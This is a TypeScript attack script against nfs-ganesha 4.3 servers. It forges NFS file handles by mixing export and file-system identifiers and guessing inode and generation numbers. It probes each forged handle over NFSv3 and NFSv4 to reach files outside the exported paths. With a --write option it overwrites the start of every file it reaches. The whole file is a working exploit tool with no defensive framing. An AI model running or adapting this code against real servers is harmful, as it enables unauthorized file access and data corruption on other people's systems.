/**
 * Makes up file handles for nfs-ganesha (4.3), and tells what they open.
 * usage: node nfs-handles.ts SERVER EXPORT… [--inode NUMBER[:GENERATION]…] [--write TEXT]
 * One line of JSON for each thing that was reached, and one at the end with how many handles were tried.
 */
import { parseArgs } from 'node:util';
import { type Found, NfsClient } from './nfs-client.ts';

/**
 * A handle: version, flags, number of the export (2 bytes), length; then for FSAL VFS flags (what tells the file system, how long the
 * kernel's type is), what tells the file system, the kernel's type, and what the kernel understands (open_by_handle_at(2)).
 */
interface Handle {
  head: Buffer;
  flags: number;
  fileSystem: Buffer;
  type: Buffer;
  kernel: Buffer;
}

/** Bytes that tell a file system: none, one or two numbers. */
const FILE_SYSTEM = [0, 8, 8, 16, 8, 8];
const TYPE_8 = 0x40;
/** linux/exportfs.h: number and generation; the same of the parent, too; 64-bit number and generation. */
const INO32_GEN = 1;
const INO32_GEN_PARENT = 2;
const INO64_GEN = 0x81;

export interface Target {
  inode: number;
  /** Default: 0 to 3. */
  generation?: number | undefined;
}

function parseHandle(bytes: Buffer): Handle {
  const flags = bytes.readUInt8(5);
  const type = 6 + (FILE_SYSTEM[flags & 0x1f] ?? 0);
  const kernel = type + ([0, 1, 2, 4][flags >> 6] ?? 0);
  return {
    head: bytes.subarray(0, 4),
    flags,
    fileSystem: bytes.subarray(6, type),
    type: bytes.subarray(type, kernel),
    kernel: bytes.subarray(kernel),
  };
}

function renderHandle({ head, flags, fileSystem, type, kernel }: Handle): Buffer {
  const opaque = Buffer.concat([Buffer.from([flags]), fileSystem, type, kernel]);
  return Buffer.concat([head, Buffer.from([opaque.length]), opaque]);
}

function numbers(inode: number, generation: number): { short: Buffer; long: Buffer } {
  const short = Buffer.alloc(8);
  short.writeUInt32LE(inode);
  short.writeUInt32LE(generation, 4);
  const long = Buffer.alloc(12);
  long.writeBigUInt64LE(BigInt(inode));
  long.writeUInt32LE(generation, 8);
  return { short, long };
}

/** Handles in the file system of a known one, for another file: at the end of what there is, and in each form that kernels have. */
function* siblings(known: Handle, { inode, generation }: Target): Generator<Handle> {
  for (const number of generation === undefined ? [0, 1, 2, 3] : [generation]) {
    const { short, long } = numbers(inode, number);
    for (const tail of [short, long]) {
      if (known.kernel.length <= tail.length) continue;
      yield { ...known, kernel: Buffer.concat([known.kernel.subarray(0, -tail.length), tail]) };
    }
    const form = (type: number, kernel: Buffer) => ({
      ...{ ...known, flags: (known.flags & 0x1f) | TYPE_8, type: Buffer.from([type]), kernel },
    });
    yield form(INO32_GEN, short);
    yield form(INO32_GEN_PARENT, Buffer.concat([short, short]));
    yield form(INO64_GEN, long);
  }
}

/** What tells the export and what tells the file system are put together in all ways. */
function* mixed(known: readonly Handle[], exportIds: number): Generator<Handle> {
  for (const one of known) {
    for (let id = 0; id < exportIds; id += 1) {
      const head = Buffer.from(one.head);
      head.writeUInt16BE(id, 2);
      yield { ...one, head };
    }
    for (const { flags, fileSystem } of known) {
      yield { ...one, flags: (one.flags & 0xc0) | (flags & 0x1f), fileSystem };
      // A mere sign for a file system that is not there: nothing is opened when it is shown.
      yield { ...one, flags: 0x20 | (flags & 0x1f), fileSystem, type: Buffer.of(), kernel: Buffer.of() };
    }
    yield { ...one, flags: one.flags & 0xc0, fileSystem: Buffer.of() };
  }
}

/** Something that was reached, and by which handle; whether it could be written, if that was tried. */
type Reached = Found & { handle: string; written?: boolean };

/**
 * Shows all handles that can be made of the roots of these exports; answers what was found, each handle by both protocols. With a
 * text, tries to write it at the beginning of each file.
 */
export async function attack(
  server: string,
  exports: readonly string[],
  targets: readonly Target[],
  text?: string,
): Promise<{ tried: number; reached: Reached[] }> {
  const client = await NfsClient.connect(server);
  try {
    const roots: Handle[] = [];
    for (const path of exports) roots.push(parseHandle(await client.handleOf(path)));
    const handles = new Set<string>();
    const heads = [...mixed(roots, exports.length + 8)];
    for (const target of targets) {
      for (const head of heads)
        for (const each of siblings(head, target)) handles.add(renderHandle(each).toString('hex'));
    }
    for (const head of heads) handles.add(renderHandle(head).toString('hex'));
    const reached: Reached[] = [];
    const queue = handles.values();
    const show = async () => {
      for (const handle of queue) {
        for (const version of [3, 4] as const) {
          const bytes = Buffer.from(handle, 'hex');
          // NFSv3's are whole words.
          const padded = Buffer.concat([bytes, Buffer.alloc(-bytes.length & 3)]);
          const found = await client.look(version, version === 3 ? padded : bytes);
          if (!found) continue;
          const written =
            text !== undefined && found.type === 'file' && (await client.write(bytes, 0n, text)) === 0;
          reached.push({ ...found, handle, written });
        }
      }
    };
    await Promise.all(Array.from({ length: 16 }, show));
    return { tried: handles.size, reached };
  } finally {
    client.close();
  }
}

if (process.argv[1] === import.meta.filename) {
  const { positionals, values } = parseArgs({
    allowPositionals: true,
    options: { inode: { type: 'string', multiple: true }, write: { type: 'string' } },
  });
  const [server = '', ...exports] = positionals;
  const low = Array.from({ length: 30 }, (_, index): Target => ({ inode: index + 1 }));
  const named = (values.inode ?? []).map((text): Target => {
    const [inode, generation] = text.split(':').map(Number);
    return { inode: inode ?? 0, generation };
  });
  const { tried, reached } = await attack(server, exports, [...low, ...named], values.write);
  for (const one of reached) console.log(JSON.stringify(one));
  console.log(JSON.stringify({ tried, reached: reached.length }));
}
